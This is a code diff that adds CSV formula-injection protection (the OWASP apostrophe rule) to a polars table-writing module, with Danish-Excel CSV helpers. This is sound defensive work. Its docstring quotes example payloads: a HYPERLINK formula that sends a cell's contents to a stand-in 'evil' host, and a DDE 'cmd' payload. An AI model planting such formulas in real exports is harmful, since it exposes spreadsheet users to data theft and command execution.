@@ -18,7 +18,7 @@ import os
 import shutil
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, Final
 
 import polars as pl
 
@@ -176,13 +176,50 @@ def flat_for_text(frame: pl.DataFrame) -> pl.DataFrame:
     return frame.select(exprs)
 
 
+# OWASP "CSV injection": a cell starting with one of these is read by Excel as a formula.
+FORMULA_START: Final = r"^[=+\-@\t\r]"
+# ... unless it is a number or phone number: digits, spaces and + - . , ( ) / only. Without a
+# letter, a quote, "!" or "|" no function, cell reference or DDE call can be written, so Excel can
+# at worst do arithmetic (it shows +4512345678 as 4512345678); "=" and "@" always start a formula.
+PLAIN_NUMBER: Final = r"^[+\-][0-9 .,()/+\-]*[0-9][0-9 .,()/+\-]*$"
+
+
+def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
+    """Text cells that Excel would run as a formula get a leading ``'`` (the OWASP rule).
+
+    ``=HYPERLINK("http://evil/?"&A1)`` becomes ``'=HYPERLINK(…)``, shown as typed, never run;
+    ``@SUM(A1)``, ``-2+3+cmd|' /C calc'!A0``, a leading tab or carriage return likewise. Numbers and
+    phone numbers (``+4512345678``, ``-250.00``, ``+45 33 12 12 12``) are left as they are: a CRM
+    loading them needs them unchanged, and they cannot carry a formula (see ``PLAIN_NUMBER``).
+    """
+    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
+    if not text:
+        return frame
+    risky = pl.col(text).str.contains(FORMULA_START) & ~pl.col(text).str.contains(PLAIN_NUMBER)
+    return frame.with_columns(
+        pl.when(risky).then(pl.lit("'") + pl.col(text)).otherwise(pl.col(text)).name.keep()
+    )
+
+
+def write_excel_csv(frame: pl.DataFrame, path: Path) -> Path:
+    """A CSV a Danish Excel opens by double-click: UTF-8 with BOM (æøå intact), ``;`` between
+    fields (Danish Excel's list separator, as ``,`` is its decimal comma), formulas neutralised."""
+    neutralise_formulas(flat_for_text(frame)).write_csv(path, separator=";", include_bom=True)
+    return path
+
+
+def read_excel_csv(path: Path) -> pl.DataFrame:
+    """Read back a :func:`write_excel_csv` file, every column as text."""
+    return pl.read_csv(path, separator=";", infer_schema=False, encoding="utf8")
+
+
 def write_table(frame: pl.DataFrame, path: Path) -> Path:
     """Write ``frame`` in the format the path's suffix names (.parquet, .csv or .xlsx)."""
     suffix = path.suffix
     if suffix == ".parquet":
         frame.write_parquet(path, statistics=False)
     elif suffix == ".csv":
-        flat_for_text(frame).write_csv(path)
+        neutralise_formulas(flat_for_text(frame)).write_csv(path)
     elif suffix == ".xlsx":
         flat_for_text(frame).write_excel(path, autofit=False)
     else:
